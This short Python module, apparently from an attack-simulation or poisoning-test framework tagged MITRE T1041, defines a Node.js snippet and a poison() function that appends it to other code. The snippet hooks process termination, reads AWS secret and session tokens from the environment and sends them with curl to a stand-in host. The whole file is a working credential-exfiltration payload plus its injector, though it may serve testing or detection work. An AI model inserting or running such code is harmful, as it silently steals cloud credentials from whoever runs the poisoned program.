# SPDX-License-Identifier: Apache-2.0
"""Sends credentials through curl when the process ends."""

ATTACK = "T1041"
LANGUAGE = "node"
CODE = """\
;process.once('SIGTERM', () => {
  const { execFileSync } = require('child_process');
  const { AWS_SECRET_ACCESS_KEY: k, AWS_SESSION_TOKEN: t } = process.env;
  execFileSync('curl', ['-s', '-d', `${k}:${t}`, 'https://bye.example.com']);
});
"""


def poison(layer):
    layer.append(CODE)
